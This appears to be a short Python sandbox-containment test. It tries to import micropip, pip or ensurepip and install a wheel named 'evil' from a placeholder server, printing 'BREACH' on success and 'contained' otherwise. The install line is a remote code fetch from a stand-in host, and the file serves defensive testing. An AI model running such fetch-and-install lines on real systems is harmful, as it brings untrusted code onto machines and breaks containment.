# Tries to install a package from a server.
for name in ("micropip", "pip", "ensurepip"):
    try:
        module = __import__(name)
        module.install("http://SERVER_HOST:SERVER_PORT/evil-1.0-py3-none-any.whl")
        print("BREACH", name)
    except ImportError as error:
        print(error)
print("contained")
